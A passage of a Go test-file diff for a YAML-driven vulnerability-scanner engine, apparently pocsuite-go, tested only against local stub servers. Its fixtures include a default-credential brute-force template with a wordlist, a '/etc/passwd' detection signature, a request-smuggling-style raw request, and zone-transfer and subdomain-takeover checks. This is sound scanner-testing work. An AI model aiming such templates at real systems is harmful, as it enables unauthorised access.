@@ -1,7 +1,26 @@
 package yamlpoc
 
 import (
+	"bufio"
+	"context"
+	"errors"
+	"fmt"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"sync/atomic"
 	"testing"
+	"time"
+	"unicode/utf8"
+
+	"github.com/miekg/dns"
+	"github.com/seaung/pocsuite-go/api"
+	"github.com/seaung/pocsuite-go/request"
 )
 
 func TestParse(t *testing.T) {
@@ -44,6 +63,7 @@ requests:
 }
 
 func TestEvalExpression(t *testing.T) {
+	poc := &YAMLPOC{}
 	env := map[string]interface{}{
 		"target": "http://example.com",
 		"port":   8080,
@@ -79,7 +99,7 @@ func TestEvalExpression(t *testing.T) {
 	
 	for _, tt := range tests {
 		t.Run(tt.name, func(t *testing.T) {
-			result, err := evalExpression(tt.expr, env)
+			result, err := poc.evalExpression(tt.expr, env)
 			if err != nil {
 				t.Fatalf("Failed to evaluate expression: %v", err)
 			}
@@ -90,3 +110,2297 @@ func TestEvalExpression(t *testing.T) {
 		})
 	}
 }
+
+func newTestResponse(status int, headers map[string]string, body string) *protocolResponse {
+	return &protocolResponse{Response: &request.Response{
+		StatusCode: status,
+		Headers:    headers,
+		BodyText:   body,
+	}}
+}
+
+func TestCheckRegexMatcher(t *testing.T) {
+	poc := &YAMLPOC{}
+	response := newTestResponse(200, map[string]string{"Server": "nginx/1.18.0"}, "<title>Admin Panel</title>")
+
+	tests := []struct {
+		name     string
+		matcher  Matcher
+		expected bool
+	}{
+		{
+			name:     "body regex",
+			matcher:  Matcher{Type: "regex", Regex: []string{`<title>Admin\s+\w+</title>`}},
+			expected: true,
+		},
+		{
+			name:     "header regexes",
+			matcher:  Matcher{Type: "regex", Part: "header", Regexes: []string{`nginx/1\.1[0-9]`}},
+			expected: true,
+		},
+		{
+			name:     "status line",
+			matcher:  Matcher{Type: "regex", Part: "status_line", Regex: []string{` 200$`}},
+			expected: true,
+		},
+		{
+			name:     "no match",
+			matcher:  Matcher{Type: "regex", Part: "all", Regex: []string{`Apache`}},
+			expected: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			matched, err := poc.checkMatcher(tt.matcher, response, nil)
+			if err != nil {
+				t.Fatalf("Failed to check matcher: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+}
+
+func TestExtractRegexGroup(t *testing.T) {
+	poc := &YAMLPOC{}
+	response := newTestResponse(200, nil, `<input name="csrf" value="abc123"><input name="id" value="42">`)
+
+	tests := []struct {
+		name      string
+		extractor Extractor
+		expected  interface{}
+	}{
+		{
+			name:      "numbered group",
+			extractor: Extractor{Type: "regex", Regex: []string{`name="csrf" value="([a-z0-9]+)"`}, Group: "1"},
+			expected:  "abc123",
+		},
+		{
+			name:      "named group",
+			extractor: Extractor{Type: "regex", Regex: []string{`name="id" value="(?P<id>\d+)"`}, Group: "id"},
+			expected:  "42",
+		},
+		{
+			name:      "no match",
+			extractor: Extractor{Type: "regex", Regex: []string{`token=(\w+)`}, Group: "1"},
+			expected:  nil,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := poc.extractRegex(tt.extractor, response)
+			if err != nil {
+				t.Fatalf("Failed to extract: %v", err)
+			}
+
+			if result != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, result)
+			}
+		})
+	}
+
+	if _, err := poc.extractRegex(Extractor{Regex: []string{`(\w+)`}, Group: "missing"}, response); err == nil {
+		t.Error("Expected error for unknown capture group")
+	}
+}
+
+func TestQueryJSON(t *testing.T) {
+	document, err := decodeJSON(`{"data":{"users":[{"name":"admin","id":1},{"name":"guest","id":2}],"meta":{"e-mail":"a@b.c"}}}`)
+	if err != nil {
+		t.Fatalf("Failed to decode JSON: %v", err)
+	}
+
+	tests := []struct {
+		name     string
+		query    string
+		expected []string
+	}{
+		{name: "nested keys", query: ".data.meta", expected: []string{`{"e-mail":"a@b.c"}`}},
+		{name: "jsonpath root", query: "$.data.users[0].name", expected: []string{"admin"}},
+		{name: "negative index", query: ".data.users[-1].id", expected: []string{"2"}},
+		{name: "jq iterate", query: ".data.users[].name", expected: []string{"admin", "guest"}},
+		{name: "wildcard", query: "data.users[*].id", expected: []string{"1", "2"}},
+		{name: "quoted key", query: `.data.meta["e-mail"]`, expected: []string{"a@b.c"}},
+		{name: "missing key", query: ".data.missing", expected: nil},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			results, err := queryJSON(document, tt.query)
+			if err != nil {
+				t.Fatalf("Failed to query JSON: %v", err)
+			}
+
+			if len(results) != len(tt.expected) {
+				t.Fatalf("Expected %d results, got %d", len(tt.expected), len(results))
+			}
+
+			for i, result := range results {
+				if jsonValueString(result) != tt.expected[i] {
+					t.Errorf("Expected %s, got %s", tt.expected[i], jsonValueString(result))
+				}
+			}
+		})
+	}
+}
+
+func TestJSONMatcherAndExtractor(t *testing.T) {
+	poc := &YAMLPOC{}
+	response := newTestResponse(200, nil, `{"user":{"role":"admin","token":"t0k3n"}}`)
+
+	matched, err := poc.checkMatcher(Matcher{Type: "json", JSON: []string{".user.role"}, Values: []string{"admin"}}, response, nil)
+	if err != nil || !matched {
+		t.Errorf("Expected json matcher to match, got %v (%v)", matched, err)
+	}
+
+	matched, err = poc.checkMatcher(Matcher{Type: "json", JSON: []string{".user.role"}, Values: []string{"guest"}}, response, nil)
+	if err != nil || matched {
+		t.Errorf("Expected json matcher not to match, got %v (%v)", matched, err)
+	}
+
+	extracted, err := poc.extractJSON(Extractor{Type: "json", JSON: []string{".user.token"}}, response)
+	if err != nil {
+		t.Fatalf("Failed to extract: %v", err)
+	}
+
+	if extracted != "t0k3n" {
+		t.Errorf("Expected t0k3n, got %v", extracted)
+	}
+}
+
+func TestExecuteChainsJSONExtraction(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/api/login":
+			w.Write([]byte(`{"session":{"token":"s3cr3t"}}`))
+		case "/api/admin":
+			if r.Header.Get("Authorization") == "Bearer s3cr3t" {
+				w.Write([]byte(`{"admin":true}`))
+				return
+			}
+			w.WriteHeader(http.StatusForbidden)
+		}
+	}))
+	defer server.Close()
+
+	poc, err := Parse(`
+info:
+  name: JSON chain
+requests:
+  - method: GET
+    path: /api/login
+    extractors:
+      - type: json
+        name: token
+        json:
+          - .session.token
+  - method: GET
+    path: /api/admin
+    headers:
+      Authorization: "Bearer {{token}}"
+    matchers:
+      - type: json
+        json:
+          - .admin
+        values:
+          - "true"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, extracted, err := poc.Execute(server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected POC to match")
+	}
+
+	if extracted["token"] != "s3cr3t" {
+		t.Errorf("Expected token s3cr3t, got %v", extracted["token"])
+	}
+}
+
+func TestExtractXPath(t *testing.T) {
+	poc := &YAMLPOC{}
+
+	html := newTestResponse(200, map[string]string{"Content-Type": "text/html"},
+		`<html><body><form><input type="hidden" name="csrf_token" value="tok-1"><p>unclosed <b>bold</form></body>`)
+	xml := newTestResponse(200, map[string]string{"Content-Type": "text/xml"},
+		`<?xml version="1.0"?><soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><version>1.2.3</version></soap:Body></soap:Envelope>`)
+
+	tests := []struct {
+		name      string
+		response  *protocolResponse
+		extractor Extractor
+		expected  interface{}
+	}{
+		{
+			name:      "html attribute",
+			response:  html,
+			extractor: Extractor{Type: "xpath", XPath: []string{`//input[@name="csrf_token"]`}, Attribute: "value"},
+			expected:  "tok-1",
+		},
+		{
+			name:      "broken html text",
+			response:  html,
+			extractor: Extractor{Type: "xpath", XPath: []string{`//b`}},
+			expected:  "bold",
+		},
+		{
+			name:      "soap xml",
+			response:  xml,
+			extractor: Extractor{Type: "xpath", XPath: []string{`//version`}},
+			expected:  "1.2.3",
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := poc.extractDataFromExtractor(tt.extractor, tt.response, nil)
+			if err != nil {
+				t.Fatalf("Failed to extract: %v", err)
+			}
+
+			if result != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, result)
+			}
+		})
+	}
+}
+
+func TestHelperFunctions(t *testing.T) {
+	poc := &YAMLPOC{}
+	env := newEnv()
+	env["body"] = "Hello World"
+
+	tests := []struct {
+		name     string
+		expr     string
+		expected interface{}
+	}{
+		{name: "md5", expr: `md5("admin")`, expected: "21232f297a57a5a743894a0e4a801fc3"},
+		{name: "sha1", expr: `sha1("admin")`, expected: "d033e22ae348aeb5660fc2140aec35850c4da997"},
+		{name: "sha256", expr: `sha256("a")`, expected: "ca978112ca1bbdcafac231b39a23dc4da786eff8147c4e72b9807785afee48bb"},
+		{name: "base64 round trip", expr: `base64_decode(base64("a:b"))`, expected: "a:b"},
+		{name: "hex", expr: `hex_decode(hex_encode("pocsuite"))`, expected: "pocsuite"},
+		{name: "url", expr: `url_encode("a b&c")`, expected: "a+b%26c"},
+		{name: "url decode", expr: `url_decode("a%20b")`, expected: "a b"},
+		{name: "case", expr: `to_upper(to_lower(body))`, expected: "HELLO WORLD"},
+		{name: "contains_all", expr: `contains_all(body, "Hello", "World")`, expected: true},
+		{name: "contains_any", expr: `contains_any(body, "foo", "World")`, expected: true},
+		{name: "regex", expr: `regex("W[a-z]+d", body)`, expected: true},
+		{name: "len", expr: `len(body)`, expected: 11},
+		{name: "rand_str", expr: `len(rand_str(12))`, expected: 12},
+		{name: "rand_int", expr: `rand_int(5, 5)`, expected: 5},
+		{name: "unix_time", expr: `unix_time() > 0`, expected: true},
+		{name: "duration", expr: `duration("1m30s")`, expected: 90.0},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			result, err := poc.evalExpression(tt.expr, env)
+			if err != nil {
+				t.Fatalf("Failed to evaluate expression: %v", err)
+			}
+
+			if result != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, result)
+			}
+		})
+	}
+
+	if _, err := poc.evalExpression(`hex_decode("zz")`, env); err == nil {
+		t.Error("Expected error from hex_decode")
+	}
+}
+
+func TestDSLMatcherAndExtractor(t *testing.T) {
+	poc := &YAMLPOC{}
+	env := newEnv()
+	env["body"] = "token=abc"
+	env["status_code"] = 200
+
+	matched, err := poc.checkMatcher(Matcher{Type: "dsl", DSL: []string{`status_code == 200 && contains_all(body, "token")`}}, nil, env)
+	if err != nil || !matched {
+		t.Errorf("Expected dsl matcher to match, got %v (%v)", matched, err)
+	}
+
+	if _, err := poc.checkMatcher(Matcher{Type: "dsl", DSL: []string{`len(body)`}}, nil, env); err == nil {
+		t.Error("Expected error for non-bool dsl expression")
+	}
+
+	extracted, err := poc.extractDSL(Extractor{Type: "dsl", DSL: []string{`md5(body)`}}, env)
+	if err != nil {
+		t.Fatalf("Failed to extract: %v", err)
+	}
+
+	if extracted != helperMD5("token=abc") {
+		t.Errorf("Expected md5 of body, got %v", extracted)
+	}
+
+	path, err := poc.evalStringWithExpressions(`/api?sig={{ to_upper(base64("x")) }}`, env)
+	if err != nil {
+		t.Fatalf("Failed to evaluate placeholders: %v", err)
+	}
+
+	if path != "/api?sig=EA==" {
+		t.Errorf("Expected /api?sig=EA==, got %s", path)
+	}
+}
+
+func TestMatcherConditions(t *testing.T) {
+	poc := &YAMLPOC{}
+	response := newTestResponse(200, map[string]string{"Server": "Apache"}, "error in your SQL syntax near 'admin'")
+
+	tests := []struct {
+		name     string
+		matcher  Matcher
+		expected bool
+	}{
+		{name: "words or one hit", matcher: Matcher{Type: "word", Condition: "or", Words: []string{"SQL syntax", "ORA-01756"}}, expected: true},
+		{name: "words or no hit", matcher: Matcher{Type: "word", Condition: "or", Words: []string{"ORA-01756", "mysql_fetch"}}, expected: false},
+		{name: "words and all hit", matcher: Matcher{Type: "word", Condition: "and", Words: []string{"SQL syntax", "admin"}}, expected: true},
+		{name: "words and one miss", matcher: Matcher{Type: "word", Condition: "and", Words: []string{"SQL syntax", "ORA-01756"}}, expected: false},
+		{name: "words default is or", matcher: Matcher{Type: "word", Words: []string{"ORA-01756", "admin"}}, expected: true},
+		{name: "regex or", matcher: Matcher{Type: "regex", Condition: "or", Regex: []string{`ORA-\d+`}, Regexes: []string{`SQL\s+syntax`}}, expected: true},
+		{name: "regex and all hit", matcher: Matcher{Type: "regex", Condition: "and", Regex: []string{`SQL\s+syntax`, `'admin'`}}, expected: true},
+		{name: "regex and one miss", matcher: Matcher{Type: "regex", Condition: "and", Regex: []string{`SQL\s+syntax`, `ORA-\d+`}}, expected: false},
+		{name: "status or", matcher: Matcher{Type: "status", Condition: "or", Status: []int{500, 200}}, expected: true},
+		{name: "status and", matcher: Matcher{Type: "status", Condition: "and", Status: []int{500, 200}}, expected: false},
+		{name: "status and single", matcher: Matcher{Type: "status", Condition: "and", Status: []int{200}}, expected: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			matched, err := poc.checkMatcher(tt.matcher, response, nil)
+			if err != nil {
+				t.Fatalf("Failed to check matcher: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+
+	if _, err := poc.checkMatcher(Matcher{Type: "word", Condition: "xor", Words: []string{"a"}}, response, nil); err == nil {
+		t.Error("Expected error for unsupported condition")
+	}
+}
+
+func TestMatchersCondition(t *testing.T) {
+	poc := &YAMLPOC{}
+	response := newTestResponse(404, nil, "root:x:0:0:")
+
+	hit := Matcher{Type: "word", Words: []string{"root:x:0:0:"}}
+	miss := Matcher{Type: "status", Status: []int{200}}
+	negatedMiss := Matcher{Type: "status", Status: []int{200}, Negative: true}
+
+	tests := []struct {
+		name      string
+		condition string
+		matchers  []Matcher
+		expected  bool
+	}{
+		{name: "default is and", condition: "", matchers: []Matcher{hit, miss}, expected: false},
+		{name: "and all hit", condition: "and", matchers: []Matcher{hit, negatedMiss}, expected: true},
+		{name: "and one miss", condition: "and", matchers: []Matcher{hit, miss}, expected: false},
+		{name: "or one hit", condition: "or", matchers: []Matcher{miss, hit}, expected: true},
+		{name: "or no hit", condition: "or", matchers: []Matcher{miss, miss}, expected: false},
+		{name: "no matchers", condition: "or", matchers: nil, expected: true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			matched, err := poc.checkMatchers(tt.matchers, tt.condition, response, nil)
+			if err != nil {
+				t.Fatalf("Failed to check matchers: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected %v, got %v", tt.expected, matched)
+			}
+		})
+	}
+
+	req := Request{Condition: "or"}
+	if req.matchersCondition() != "or" {
+		t.Errorf("Expected legacy condition to be honored, got %s", req.matchersCondition())
+	}
+
+	req.MatchersCondition = "and"
+	if req.matchersCondition() != "and" {
+		t.Errorf("Expected matchers-condition to take precedence, got %s", req.matchersCondition())
+	}
+}
+
+func TestParseRawRequest(t *testing.T) {
+	raw := "POST /api/login?x=1 HTTP/1.1\r\nHost: vulnerable.example\r\nX-Custom: a\r\nx-custom: b\r\nContent-Type: application/json\r\n\r\n{\"user\":\"admin\"}\n"
+
+	parsed, err := parseRawRequest(raw)
+	if err != nil {
+		t.Fatalf("Failed to parse raw request: %v", err)
+	}
+
+	if parsed.Method != "POST" || parsed.Path != "/api/login?x=1" || parsed.Proto != "HTTP/1.1" {
+		t.Errorf("Unexpected request line: %s %s %s", parsed.Method, parsed.Path, parsed.Proto)
+	}
+
+	if len(parsed.Headers) != 4 || parsed.Headers[2][0] != "x-custom" {
+		t.Errorf("Expected header order and casing to be preserved, got %v", parsed.Headers)
+	}
+
+	if parsed.Body != `{"user":"admin"}` {
+		t.Errorf("Unexpected body: %q", parsed.Body)
+	}
+
+	if _, err := parseRawRequest("GARBAGE"); err == nil {
+		t.Error("Expected error for invalid request line")
+	}
+}
+
+func TestExecuteRawRequest(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path != "/login" {
+			w.WriteHeader(http.StatusNotFound)
+			return
+		}
+		body, _ := io.ReadAll(r.Body)
+		fmt.Fprintf(w, "host=%s dup=%d body=%s", r.Host, len(r.Header.Values("X-Dup")), body)
+	}))
+	defer server.Close()
+
+	poc, err := Parse(`
+info:
+  name: Raw
+variables:
+  user: admin
+requests:
+  - raw:
+      - |
+        POST /login HTTP/1.1
+        Host: advisory.example
+        X-Dup: 1
+        X-Dup: 2
+        Content-Type: application/x-www-form-urlencoded
+
+        user={{user}}
+    matchers:
+      - type: word
+        words:
+          - "dup=2 body=user=admin"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, _, err := poc.Execute(server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected raw request to match")
+	}
+}
+
+func TestExecuteUnsafeRawRequest(t *testing.T) {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	defer listener.Close()
+
+	received := make(chan string, 1)
+	go func() {
+		conn, err := listener.Accept()
+		if err != nil {
+			return
+		}
+		defer conn.Close()
+
+		reader := bufio.NewReader(conn)
+		var sb strings.Builder
+		for {
+			line, err := reader.ReadString('\n')
+			sb.WriteString(line)
+			if err != nil || line == "\r\n" {
+				break
+			}
+		}
+		received <- sb.String()
+		conn.Write([]byte("HTTP/1.1 400 Bad Request\r\nContent-Length: 7\r\n\r\ninvalid"))
+	}()
+
+	poc, err := Parse(`
+info:
+  name: Unsafe raw
+requests:
+  - unsafe: true
+    raw:
+      - |
+        GET /{{ "smuggle" }} HTTP/1.1
+        host: a
+        Transfer-Encoding : chunked
+    matchers:
+      - type: status
+        status:
+          - 400
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, _, err := poc.Execute("http://"+listener.Addr().String(), nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected unsafe raw request to match")
+	}
+
+	expected := "GET /smuggle HTTP/1.1\r\nhost: a\r\nTransfer-Encoding : chunked\r\n\r\n"
+	if got := <-received; got != expected {
+		t.Errorf("Expected bytes %q, got %q", expected, got)
+	}
+}
+
+func TestPayloadCombinations(t *testing.T) {
+	values := map[string][]string{
+		"user": {"admin", "root"},
+		"pass": {"admin", "toor"},
+	}
+
+	tests := []struct {
+		attack   string
+		expected []map[string]string
+	}{
+		{
+			attack: "batteringram",
+			expected: []map[string]string{
+				{"pass": "admin", "user": "admin"},
+				{"pass": "toor", "user": "toor"},
+				{"pass": "admin", "user": "admin"},
+				{"pass": "root", "user": "root"},
+			},
+		},
+		{
+			attack: "pitchfork",
+			expected: []map[string]string{
+				{"pass": "admin", "user": "admin"},
+				{"pass": "toor", "user": "root"},
+			},
+		},
+		{
+			attack: "clusterbomb",
+			expected: []map[string]string{
+				{"pass": "admin", "user": "admin"},
+				{"pass": "admin", "user": "root"},
+				{"pass": "toor", "user": "admin"},
+				{"pass": "toor", "user": "root"},
+			},
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.attack, func(t *testing.T) {
+			combinations, err := payloadCombinations(values, tt.attack)
+			if err != nil {
+				t.Fatalf("Failed to build combinations: %v", err)
+			}
+
+			if fmt.Sprint(combinations) != fmt.Sprint(tt.expected) {
+				t.Errorf("Expected %v, got %v", tt.expected, combinations)
+			}
+		})
+	}
+
+	if _, err := payloadCombinations(map[string][]string{"a": {"1"}, "b": {"1", "2"}}, "pitchfork"); err == nil {
+		t.Error("Expected error for pitchfork sets of different length")
+	}
+
+	if _, err := payloadCombinations(values, "shotgun"); err == nil {
+		t.Error("Expected error for unsupported attack type")
+	}
+}
+
+func TestExecutePayloads(t *testing.T) {
+	var requests int
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		requests++
+		user, pass, _ := r.BasicAuth()
+		if user == "admin" && pass == "s3cret" {
+			w.Write([]byte("Welcome admin"))
+			return
+		}
+		w.WriteHeader(http.StatusUnauthorized)
+	}))
+	defer server.Close()
+
+	dir := t.TempDir()
+	if err := os.WriteFile(filepath.Join(dir, "passwords.txt"), []byte("123456\ns3cret\npassword\n"), 0644); err != nil {
+		t.Fatalf("Failed to write wordlist: %v", err)
+	}
+
+	template := `
+info:
+  name: Default credentials
+requests:
+  - method: GET
+    path: /
+    headers:
+      Authorization: "Basic {{ base64(user + ':' + pass) }}"
+    payloads:
+      user:
+        - root
+        - admin
+      pass: passwords.txt
+    attack: clusterbomb
+    stop-at-first-match: true
+    matchers:
+      - type: word
+        words:
+          - Welcome
+`
+	pocFile := filepath.Join(dir, "default-creds.yaml")
+	if err := os.WriteFile(pocFile, []byte(template), 0644); err != nil {
+		t.Fatalf("Failed to write template: %v", err)
+	}
+
+	poc, err := ParseFile(pocFile)
+	if err != nil {
+		t.Fatalf("Failed to parse template: %v", err)
+	}
+
+	matched, extracted, err := poc.Execute(server.URL, nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Fatal("Expected payloads to match")
+	}
+
+	payloads, ok := extracted["matched_payloads"].([]map[string]string)
+	if !ok || len(payloads) != 1 || payloads[0]["user"] != "admin" || payloads[0]["pass"] != "s3cret" {
+		t.Errorf("Unexpected matched payloads: %v", extracted["matched_payloads"])
+	}
+
+	if requests != 4 {
+		t.Errorf("Expected to stop after 4 requests, sent %d", requests)
+	}
+}
+
+func TestExecuteNetwork(t *testing.T) {
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	defer listener.Close()
+
+	go func() {
+		for {
+			conn, err := listener.Accept()
+			if err != nil {
+				return
+			}
+			go func(conn net.Conn) {
+				defer conn.Close()
+				reader := bufio.NewReader(conn)
+				line, _ := reader.ReadString('\n')
+				if line == "INFO\r\n" {
+					conn.Write([]byte("$30\r\n# Server\r\nredis_version:6.0.9\r\n\x00\x01"))
+				}
+			}(conn)
+		}
+	}()
+
+	_, port, _ := net.SplitHostPort(listener.Addr().String())
+
+	poc, err := Parse(`
+info:
+  name: Redis unauthenticated
+network:
+  - port: "` + port + `"
+    inputs:
+      - data: "494e464f0d0a"
+        type: hex
+    read-size: 64
+    matchers-condition: and
+    matchers:
+      - type: word
+        part: data
+        words:
+          - "redis_version"
+      - type: binary
+        binary:
+          - "0001"
+    extractors:
+      - type: regex
+        name: version
+        group: "1"
+        regex:
+          - "redis_version:([0-9.]+)"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, extracted, err := poc.Execute("http://127.0.0.1", nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected network request to match")
+	}
+
+	if extracted["version"] != "6.0.9" {
+		t.Errorf("Expected version 6.0.9, got %v", extracted["version"])
+	}
+}
+
+func startStubDNSServer(t *testing.T) string {
+	t.Helper()
+
+	handler := dns.HandlerFunc(func(w dns.ResponseWriter, r *dns.Msg) {
+		reply := new(dns.Msg)
+		reply.SetReply(r)
+
+		question := r.Question[0]
+		switch question.Qtype {
+		case dns.TypeCNAME:
+			rr, _ := dns.NewRR(question.Name + " 300 IN CNAME orphan.herokuapp.com.")
+			reply.Answer = append(reply.Answer, rr)
+		case dns.TypeAXFR:
+			soa, _ := dns.NewRR("example.com. 300 IN SOA ns1.example.com. admin.example.com. 1 7200 3600 1209600 300")
+			internal, _ := dns.NewRR("internal.example.com. 300 IN A 10.0.0.5")
+			reply.Answer = append(reply.Answer, soa, internal, soa)
+		default:
+			reply.Rcode = dns.RcodeNameError
+			soa, _ := dns.NewRR("example.com. 300 IN SOA ns1.example.com. admin.example.com. 1 7200 3600 1209600 300")
+			reply.Ns = append(reply.Ns, soa)
+		}
+
+		w.WriteMsg(reply)
+	})
+
+	listener, err := net.Listen("tcp", "127.0.0.1:0")
+	if err != nil {
+		t.Fatalf("Failed to listen: %v", err)
+	}
+	packetConn, err := net.ListenPacket("udp", listener.Addr().String())
+	if err != nil {
+		listener.Close()
+		t.Fatalf("Failed to listen: %v", err)
+	}
+
+	tcpServer := &dns.Server{Listener: listener, Handler: handler}
+	udpServer := &dns.Server{PacketConn: packetConn, Handler: handler}
+	go tcpServer.ActivateAndServe()
+	go udpServer.ActivateAndServe()
+	t.Cleanup(func() {
+		tcpServer.Shutdown()
+		udpServer.Shutdown()
+	})
+
+	return listener.Addr().String()
+}
+
+func TestExecuteDNS(t *testing.T) {
+	resolver := startStubDNSServer(t)
+
+	tests := []struct {
+		name      string
+		yaml      string
+		expected  bool
+		extracted map[string]interface{}
+	}{
+		{
+			name: "dangling cname",
+			yaml: `
+dns:
+  - name: "{{sub}}.example.com"
+    type: CNAME
+    resolver: "` + resolver + `"
+    matchers:
+      - type: word
+        part: answer
+        words:
+          - "herokuapp.com"
+    extractors:
+      - type: regex
+        name: cname
+        part: answer
+        group: "1"
+        regex:
+          - "CNAME\\s+(\\S+)"
+`,
+			expected:  true,
+			extracted: map[string]interface{}{"cname": "orphan.herokuapp.com."},
+		},
+		{
+			name: "zone transfer",
+			yaml: `
+dns:
+  - name: example.com
+    type: AXFR
+    resolver: "` + resolver + `"
+    matchers:
+      - type: dsl
+        dsl:
+          - 'rcode == "NOERROR" && answer contains "internal.example.com"'
+`,
+			expected: true,
+		},
+		{
+			name: "nxdomain authority",
+			yaml: `
+dns:
+  - name: missing.example.com
+    type: A
+    recursion: false
+    resolver: "` + resolver + `"
+    matchers-condition: and
+    matchers:
+      - type: word
+        part: authority
+        words:
+          - "SOA"
+      - type: word
+        part: answer
+        words:
+          - "IN A"
+`,
+			expected: false,
+		},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			poc, err := Parse("info:\n  name: dns\n" + tt.yaml)
+			if err != nil {
+				t.Fatalf("Failed to parse YAML: %v", err)
+			}
+
+			matched, extracted, err := poc.Execute("http://example.com", map[string]interface{}{"sub": "shop"})
+			if err != nil {
+				t.Fatalf("Failed to execute: %v", err)
+			}
+
+			if matched != tt.expected {
+				t.Errorf("Expected matched %v, got %v", tt.expected, matched)
+			}
+
+			for k, v := range tt.extracted {
+				if extracted[k] != v {
+					t.Errorf("Expected %s = %v, got %v", k, v, extracted[k])
+				}
+			}
+		})
+	}
+}
+
+func TestTargetVariables(t *testing.T) {
+	vars, err := targetVariables("https://example.com:8443/app/index.php")
+	if err != nil {
+		t.Fatalf("Failed to parse target: %v", err)
+	}
+
+	expected := map[string]string{
+		"BaseURL":  "https://example.com:8443/app/index.php",
+		"RootURL":  "https://example.com:8443",
+		"Hostname": "example.com:8443",
+		"Host":     "example.com",
+		"Port":     "8443",
+		"Scheme":   "https",
+		"Path":     "/app",
+		"File":     "index.php",
+	}
+	for k, v := range expected {
+		if vars[k] != v {
+			t.Errorf("Expected %s = %q, got %q", k, v, vars[k])
+		}
+	}
+
+	vars, err = targetVariables("example.com")
+	if err != nil {
+		t.Fatalf("Failed to parse target: %v", err)
+	}
+	if vars["Scheme"] != "http" || vars["Port"] != "80" || vars["Path"] != "" {
+		t.Errorf("Unexpected variables for bare host: %v", vars)
+	}
+}
+
+func TestJoinURL(t *testing.T) {
+	tests := []struct {
+		target   string
+		path     string
+		expected string
+	}{
+		{"http://example.com", "/admin", "http://example.com/admin"},
+		{"http://example.com/", "/admin", "http://example.com/admin"},
+		{"http://example.com/app/", "admin", "http://example.com/app/admin"},
+		{"http://example.com/app", "/?id=1", "http://example.com/app/?id=1"},
+		{"http://example.com/app", "?id=1", "http://example.com/app?id=1"},
+		{"http://example.com/app", "", "http://example.com/app"},
+		{"http://example.com/app", "http://example.com/x", "http://example.com/x"},
+	}
+
+	for _, tt := range tests {
+		url, err := joinURL(tt.target, tt.path)
+		if err != nil {
+			t.Fatalf("Failed to join %q and %q: %v", tt.target, tt.path, err)
+		}
+		if url != tt.expected {
+			t.Errorf("joinURL(%q, %q) = %q, expected %q", tt.target, tt.path, url, tt.expected)
+		}
+	}
+}
+
+func TestExecuteRootURLPath(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		if r.URL.Path == "/robots.txt" && r.Header.Get("X-Host") == r.Host {
+			fmt.Fprint(w, "Disallow: /admin")
+		}
+	}))
+	defer server.Close()
+
+	poc, err := Parse(`
+info:
+  name: RootURL path
+requests:
+  - method: GET
+    path: "{{RootURL}}/robots.txt"
+    headers:
+      X-Host: "{{Hostname}}"
+    matchers:
+      - type: word
+        words:
+          - "Disallow"
+`)
+	if err != nil {
+		t.Fatalf("Failed to parse YAML: %v", err)
+	}
+
+	matched, _, err := poc.Execute(server.URL+"/app/", nil)
+	if err != nil {
+		t.Fatalf("Failed to execute: %v", err)
+	}
+
+	if !matched {
+		t.Error("Expected {{RootURL}} path to reach the server root")
+	}
+}
+
+func newSessionTestServer() *httptest.Server {
+	return httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/login":
+			http.SetCookie(w, &http.Cookie{Name: "sid", Value: "admin-session", Path: "/"})
+			w.Write([]byte("ok"))
+		case "/admin":
+			if cookie, err := r.Cookie("sid"); err == nil && cookie.Value == "admin-session" {
